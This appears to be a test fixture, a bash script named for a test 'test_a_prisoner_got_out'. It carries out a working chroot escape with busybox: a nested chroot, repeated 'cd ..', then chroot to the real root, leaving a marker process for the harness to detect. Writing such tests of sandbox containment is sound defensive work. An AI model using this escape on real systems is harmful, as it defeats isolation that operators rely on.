#!/usr/bin/env bash
# caught by: test_a_prisoner_got_out
# mkdir, chroot, cd .. with busybox: its chroot changes the working directory too, so ".." is the end of it.
set -euo pipefail
setsid sudo chroot jail /bin/sh -c '
  mkdir -p cell/bin
  cp /bin/busybox cell/bin/
  chroot cell /bin/busybox sh -c "cd ../../../../..; /bin/busybox chroot . /bin/busybox sleep 1d; :"; :
' </dev/null >/dev/null 2>&1 &
wait_until pgrep --full --exact '/bin/busybox sleep 1d'
